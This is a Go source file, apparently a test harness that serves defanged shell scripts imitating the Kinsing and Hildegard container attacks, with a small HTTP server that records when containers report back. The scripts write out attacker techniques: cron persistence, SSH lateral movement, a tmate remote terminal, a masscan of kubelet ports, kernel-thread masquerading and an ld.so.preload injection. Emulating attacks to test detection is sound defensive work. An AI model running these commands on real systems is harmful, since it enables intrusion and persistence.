package main

import (
	"context"
	"fmt"
	"net/http"
	"sync"
	"time"
)

// The scripts that containers fetch. What they start are stand-ins, and what
// they write are files of the container's own.
var scripts = map[string]string{
	// after Kinsing: a program of one's own from a scratch directory, cron, other
	// machines
	"/d.sh": `cp /usr/bin/standin /tmp/stand-in
/tmp/stand-in idle
echo '* * * * * /tmp/stand-in idle' | crontab -
ssh -o StrictHostKeyChecking=no -o BatchMode=yes -i /root/key root@192.0.2.2 true
`,
	// after Hildegard: a remote terminal, a scan, the name of a kernel thread, the
	// linker's preload file
	"/x.sh": `tmate -F
masscan 192.0.2.0/30 -p10250
standin as '[kworker/0:1]'
mkdir -p /tmp/etc
/bin/busybox sh -c 'echo /tmp/x.so >>/tmp/etc/ld.so.preload'
`,
}

// serve is where containers fetch from, and where they tell that they are done:
// /tell/NAME, and then /told/NAME is found.
func serve(ctx context.Context, args []string) error {
	var mu sync.Mutex
	told := make(map[string]bool)
	mux := http.NewServeMux()
	for path, text := range scripts {
		mux.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, text) })
	}
	mux.HandleFunc("/tell/{name}", func(_ http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		told[r.PathValue("name")] = true
	})
	mux.HandleFunc("/told/{name}", func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if !told[r.PathValue("name")] {
			http.NotFound(w, r)
		}
	})
	s := &http.Server{Addr: args[0], Handler: mux, ReadHeaderTimeout: time.Minute}
	go func() {
		<-ctx.Done()
		s.Close()
	}()
	if err := s.ListenAndServe(); err != http.ErrServerClosed {
		return err
	}
	return nil
}

// awaitTold waits until somebody told the source of name.
func awaitTold(ctx context.Context, source, name string) error {
	for {
		_, err := call{server: source}.do(ctx, http.MethodGet, "/told/"+name, "", nil)
		if err == nil {
			return nil
		}
		if pause(ctx, 50*time.Millisecond); ctx.Err() != nil {
			return fmt.Errorf("nobody tells of %s: %w", name, err)
		}
	}
}

func pause(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}
